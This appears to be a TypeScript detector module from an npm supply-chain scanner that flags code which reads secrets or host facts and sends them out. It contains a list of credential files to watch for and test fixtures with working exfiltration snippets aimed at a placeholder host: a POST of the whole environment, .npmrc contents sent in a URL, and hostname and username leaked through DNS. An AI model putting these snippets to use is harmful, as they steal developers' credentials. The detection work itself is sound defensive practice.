import { mayDo } from "../behaviour/marks.ts";
import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { nearby, sendingDeeds } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { isLate, sight } from "./_sight.ts";

const GATHERS = [
  "process.env",
  ".npmrc",
  ".ssh",
  ".aws",
  ".netrc",
  ".git-credentials",
  "id_rsa",
  "/etc/passwd",
  "hostname",
  "userinfo",
  "networkinterfaces",
] as const;

export const gathersAndSends: Detector = {
  id: "gathers-and-sends",
  title: "Gathers secrets or facts about the machine, and sends something, in one place",
  severity: "high",
  ecosystems: ["npm"],
  points: 5.4,
  class: "threat",
  group: "exfiltration",
  why: `Within a few lines the code takes the whole environment, a file with credentials, or several facts about the machine and its user,
and sends a request with a body, a mail or a name server query. Credential thieves and dependency confusion probes consist of nothing
else.

Clients of cloud services read one credential file and ask their own service, in functions that somebody calls; telemetry
is announced and sends a name and a version. At install or import neither is expected.`,
  literals: GATHERS,
  *detect(tree) {
    for (const file of scriptsWith(tree, GATHERS)) {
      if (!mayDo(file, ["environment", "secret-file", "host-fact"])) continue;
      const sends = sendingDeeds(file);
      if (sends.length === 0) continue;
      const secrets = deedsOf(file, "environment", "secret-file").filter((deed) => reallyTakes(file, deed));
      const facts = deedsOf(file, "host-fact");
      const several = new Set(facts.map((deed) => deed.what)).size >= 2;
      const pair = nearby(file, secrets, sends, true) ?? (several ? nearby(file, facts, sends, true) : undefined);
      if (pair === undefined) continue;
      const says = `${pair.first.what} is taken and ${pair.then.what} sends ${pair.then.text.slice(0, 100)}`.trimEnd();
      const late = isLate(pair.then);
      yield sight(file, pair.first.offset, says, { phase: pair.then.phase, share: late ? 0.4 : 1 });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const https = require('https');\nconst d = JSON.stringify(process.env);\nconst r = https.request('https://example.invalid', { method: 'POST' });\nr.write(d);\nr.end();\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(home + '/.npmrc', 'utf8');\nhttps.get('https://example.invalid/?t=' + c);\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "index.js": "const https = require('https');\nhttps.get('https://example.invalid/' + process.env.NAME);\n",
        },
      },
      {
        ecosystem: "npm",
        files: { "index.js": "const os = require('os');\nfetch(url, { method: 'POST', body: os.hostname() });\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "index.mjs": `import o from 'node:os';\nimport d from 'node:dns';\nconst h = o.hostname(), u = o.userInfo().username;\nd.resolve4(\`\${h}.\${u}.example.invalid\`, () => {});\n`,
        },
      },
    ],
  },
};

/** A credential file that is only named in a list of what to ignore is not read. */
function reallyTakes(file: SourceFile, deed: Deed): boolean {
  if (deed.act === "environment") return true;
  const around = file.text.slice(Math.max(0, deed.offset - 300), deed.offset + 300);
  return (
    /read(?:File|dir)|createReadStream|cat[ \t]|existsSync|\bopen/.test(around) || /169\.254|metadata/.test(deed.what)
  );
}
